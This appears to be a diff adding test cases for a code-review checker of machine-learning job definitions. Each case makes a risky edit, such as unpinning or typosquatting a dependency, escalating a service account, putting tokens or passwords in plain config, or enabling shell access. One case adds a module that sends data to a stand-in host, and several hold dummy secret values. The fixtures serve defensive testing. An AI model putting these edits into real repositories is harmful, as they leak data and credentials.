@@ -1,0 +1,139 @@
+"""Job code, and what a job may reach: packages, accounts, secrets, shells."""
+
+from tests.review.case import Case, Edit, Job, World, hurts, stops, tells, template
+from tests.review.cases.clusters import BUSY
+
+QUEUED = World(
+    jobs=(
+        Job("waits-27b", user="ben", parameters={"model": "27b"}, state="PENDING", hours=1),
+        Job("evals-now", "evals", "cy", "spot"),
+    )
+)
+
+CASES = (
+    Case(
+        "A checkpoint every 2000 steps, where there was one every 20",
+        (Edit("jobs/lora/task.py", "EVERY = 20 ", "EVERY = 2000 "),),
+        (hurts("code-changed", "lora"),),
+        world=BUSY,
+        accident="hours of training lost with a preempted machine",
+    ),
+    Case(
+        "A comment of the job's code: other bytes, so it is said",
+        (Edit("jobs/digits/task.py", "so that two runs are the same", "and two runs are the same"),),
+        (tells("code-changed", "digits"),),
+        world=BUSY,
+    ),
+    Case(
+        "A module is added that sends data away",
+        (
+            Edit(
+                "jobs/lora/report.py", "", 'import urllib.request\n\nurllib.request.urlopen("https://paste.example")\n'
+            ),
+        ),
+        (hurts("code-changed", "lora"),),
+        accident="code that nobody looked at, in a shared repository",
+    ),
+    Case(
+        "Another version of the framework",
+        (Edit("jobs/lora/requirements.txt", "torch==2.4.1", "torch==2.5.0"),),
+        (hurts("requirements-changed", "lora", "torch==2.4.1", "torch==2.5.0"),),
+        may=("code-changed",),
+        world=BUSY,
+        accident="a minor version that changed the numbers",
+    ),
+    Case(
+        "A version is not pinned any more",
+        (Edit("jobs/lora/requirements.txt", "peft==0.13.0", "peft"),),
+        (hurts("requirements-changed", "lora", "peft"),),
+        may=("code-changed",),
+        accident="a dependency that was published anew",
+    ),
+    Case(
+        "A package with a name that is nearly another's",
+        (Edit("jobs/digits/requirements.txt", "dask==2025.1.0\n", "dask==2025.1.0\ndaskk==0.0.1\n"),),
+        (hurts("requirements-changed", "digits", "daskk"),),
+        may=("code-changed",),
+        accident="a typosquatted package",
+    ),
+    Case(
+        "All requirements go",
+        (Edit("jobs/digits/requirements.txt"),),
+        (hurts("requirements-changed", "digits", "dask"),),
+        may=("code-changed",),
+    ),
+    Case(
+        "A template runs as the account that everything runs as",
+        (template("evals", '    service_account="evals@acme-ml.iam.gserviceaccount.com",\n', ""),),
+        (hurts("account-changed", "evals", "evals@acme-ml"),),
+        world=QUEUED,
+        accident="an account shared by all",
+    ),
+    Case(
+        "A template runs as an account with more rights",
+        (template("evals", "evals@acme-ml.iam", "admin@acme-ml.iam"),),
+        (hurts("account-changed", "evals", "evals@acme-ml", "admin@acme-ml"),),
+        world=QUEUED,
+    ),
+    Case(
+        "Another secret, which the jobs' account may not be able to read",
+        (template("lora", '"hf-token"', '"hf-token-shared"'),),
+        (hurts("secrets-changed", "lora", "HF_TOKEN", "hf-token-shared"),),
+        world=BUSY,
+    ),
+    Case(
+        "A secret is pinned to an old version",
+        (template("lora", '"hf-token"', '"projects/acme-ml/secrets/hf-token/versions/1"'),),
+        (hurts("secrets-changed", "lora", "HF_TOKEN", "versions/1"),),
+        accident="a rotated key that was still in use",
+    ),
+    Case(
+        "A token moves from Secret Manager into the plain environment",
+        (
+            template("lora", '    secrets={"HF_TOKEN": "hf-token"},\n', ""),
+            template(
+                "lora",
+                '{"NCCL_DEBUG": "WARN"}',
+                '{"NCCL_DEBUG": "WARN", "HF_TOKEN": "hf_aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"}',
+            ),
+        ),
+        (stops("plain-secret", "lora", "HF_TOKEN"), hurts("secrets-changed", "lora", "HF_TOKEN")),
+        may=("environment-changed",),
+        world=BUSY,
+        accident="a token in a public repository",
+    ),
+    Case(
+        "A password among the arguments",
+        (template("evals", '"--suite=${suite}"', '"--suite=${suite}", "--db-password=hunter2hunter2"'),),
+        (stops("plain-secret", "evals"), hurts("arguments-changed", "evals")),
+        accident="a password on a command line",
+    ),
+    Case(
+        "A key as the default of a parameter",
+        (
+            template("evals", '"--batch=${batch}"', '"--batch=${batch}", "--key=${api_key}"'),
+            template(
+                "evals",
+                '        Parameter("batch"',
+                '        Parameter("api_key", str, default="AIzaSyA1234567890abcdefghijklmnopqrstuv"),\n'
+                '        Parameter("batch"',
+            ),
+        ),
+        (stops("plain-secret", "evals"),),
+        may=("arguments-changed",),
+        accident="a key in a default",
+    ),
+    Case(
+        "Whoever may see a job may open a shell in it",
+        (template("evals", "    timeout_s=7200,\n", "    timeout_s=7200,\n    enable_web_access=True,\n"),),
+        (hurts("web-access-changed", "evals"),),
+        accident="a debugging door left open",
+    ),
+    Case(
+        "A template may be submitted with code of one's own, where the stack forbids it",
+        (template("digits", "    timeout_s=3600,\n", "    timeout_s=3600,\n    code_flag=True,\n"),),
+        (),
+        may=("code-allowed",),
+        world=BUSY,
+    ),
+)
